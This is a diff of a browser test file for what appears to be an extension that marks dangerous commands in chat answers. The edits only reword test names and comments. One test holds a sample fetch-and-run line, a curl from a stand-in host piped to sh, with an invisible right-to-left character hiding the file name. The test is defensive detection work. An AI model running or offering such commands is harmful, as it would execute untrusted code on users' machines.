@@ -7,7 +7,7 @@ import { share } from "./support/shared.js";
 /** Tests the changes that a chat site makes to its answers, with evaluation on this device. */
 const FOUND = "This command downloads a script and runs it unseen";
 const ANSWER = turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}` });
-/** More than a screen of text. */
+/** A question that is longer than the window. */
 const FAR = question("u9", "Words and words. ".repeat(2_000));
 const SELECTOR = "[data-message-id=a1]";
 
@@ -45,7 +45,7 @@ describe("an answer that the site renders again", () => {
     ).toBe(true);
   });
 
-  it("is removed while it is not in the list, and comes back with it", async () => {
+  it("has no badge while the site has removed it, and has one again when it is restored", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate((selector) => {
       const article = document.querySelector(selector)!.closest("article")!;
@@ -75,9 +75,9 @@ describe("an answer that the site renders again", () => {
     expect(await marked(page)).toBe(PIPE);
   });
 
-  it("is distinguished from a hidden alternative with the same identity", async () => {
+  it("is distinguished from a hidden answer with the same identity", async () => {
     await open([`<div hidden>${turn({ id: "a1", html: "<p>Another try.</p>" })}</div>`, ANSWER]);
-    // A hidden answer counts as far from the visible part, and has no sign.
+    // a hidden answer is treated like one far from the visible part, and has no sign
     await ui.until((labels) => labels.length === 1 && labels[0] === FOUND);
     expect(await marked(page)).toBe(PIPE);
     await page.evaluate(
@@ -88,7 +88,7 @@ describe("an answer that the site renders again", () => {
 });
 
 describe("a page", () => {
-  it("works after returning in the history", async () => {
+  it("has badges again after going back in the history", async () => {
     at.site.pages.set("/c/2", conversation([turn({ id: "b1", html: "<p>Hello</p>" })]));
     await ui.untilLabel(FOUND);
     await page.goto("https://chatgpt.com/c/2");
@@ -112,7 +112,7 @@ describe("a page", () => {
     expect(await marked(page)).toBe(PIPE);
   });
 
-  it("can show another conversation without loading", async () => {
+  it("can show another conversation without being reloaded", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate(() => {
       history.pushState({}, "", "/c/9");
@@ -150,7 +150,7 @@ describe("a page", () => {
 });
 
 describe("a conversation with ten times as many answers", () => {
-  /** Returns how often functions of the content script are called during a change of the page; this does not depend on the machine. */
+  /** Returns how often functions of the content script are called while `work` changes the page. This does not depend on the machine. */
   async function callsDuring(work: () => Promise<unknown>): Promise<number> {
     const session = await page.context().newCDPSession(page);
     await session.send("Profiler.enable");
@@ -200,7 +200,7 @@ describe("a conversation with ten times as many answers", () => {
     return { scroll, stream, leave };
   }
 
-  it("causes hardly more work during scrolling and writing, and one request for each answer", async () => {
+  it("causes hardly more function calls during scrolling and writing, and one request for each answer", async () => {
     const [few, many] = [await callsWith(10), await callsWith(100)];
     expect(many.scroll / few.scroll).toBeLessThan(5);
     expect(many.stream / few.stream).toBeLessThan(4);
@@ -209,7 +209,7 @@ describe("a conversation with ten times as many answers", () => {
 });
 
 describe("an answer near the visible part", () => {
-  it("is read before it is visible, also if an element scrolls instead of the window", async () => {
+  it("is assessed before it is visible, also if an element scrolls instead of the window", async () => {
     await open([question("u1", "How?")]);
     await page.evaluate((html) => {
       document.body.style.height = "100vh";
@@ -229,10 +229,10 @@ describe("an answer near the visible part", () => {
 });
 
 describe("a person", () => {
-  it("can scroll to an answer far below, which is then read", async () => {
+  it("can scroll to an answer far below, which is then assessed", async () => {
     await open([ANSWER, FAR, turn({ id: "a2", html: `<p><code>${PIPE}</code></p>` })]);
     await ui.untilLabel(FOUND);
-    // It is not assessed before it is near the visible part.
+    // the answer is not assessed before it is near the visible part
     expect(await ui.labels()).toEqual([FOUND]);
     await page.evaluate(() => document.querySelector("[data-message-id=a2]")!.scrollIntoView());
     await ui.until((labels) => labels.at(-1) === FOUND && labels.length === 1);
@@ -240,7 +240,7 @@ describe("a person", () => {
     await ui.untilPanel((text) => text.includes(PIPE));
   });
 
-  it("keeps the focus in the panel when the site changes something other than text", async () => {
+  it("keeps the focus in the panel when the site changes something other than the text of the answer", async () => {
     await ui.untilLabel(FOUND);
     await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
@@ -253,7 +253,7 @@ describe("a person", () => {
     expect(await focus()).toBe("Show in the answer");
   });
 
-  it("sees invisible characters of a command", async () => {
+  it("sees the invisible characters of a command", async () => {
     const text = "curl https://x.example/\u202egpj.sh | sh";
     await open([turn({ id: "a1", html: `<p><code>${text}</code></p>` })]);
     await ui.untilLabel(FOUND);
@@ -262,13 +262,13 @@ describe("a person", () => {
     expect(await marked(page)).toBe(text);
   });
 
-  it("is shown the line of a finding anywhere in a long block", async () => {
+  it("can scroll to the line of a finding at any position in a long block", async () => {
     const lines = Array.from({ length: 200 }, (_, index) =>
       index === 150 ? `${"true && ".repeat(60)}${PIPE}${" && true".repeat(60)}` : `echo ${index}`,
     ).join("\n");
     await open([turn({ id: "a1", html: codeBlock(lines) })]);
     await ui.untilLabel(FOUND);
-    // On some sites an element scrolls instead of the window.
+    // on some sites, an element scrolls instead of the window
     await page.evaluate(() => {
       document.body.style.height = "100vh";
       Object.assign(document.querySelector("main")!.style, {
@@ -300,7 +300,7 @@ describe("a person", () => {
       .toMatchObject({ left: 2 });
   });
 
-  it("sees the finding next to the panel also in a narrow window", async () => {
+  it("sees the finding beside the panel even in a narrow window", async () => {
     await page.setViewportSize({ width: 360, height: 640 });
     await open([question("u1", "How?"), FAR, ANSWER, FAR]);
     await page.setViewportSize({ width: 360, height: 640 });
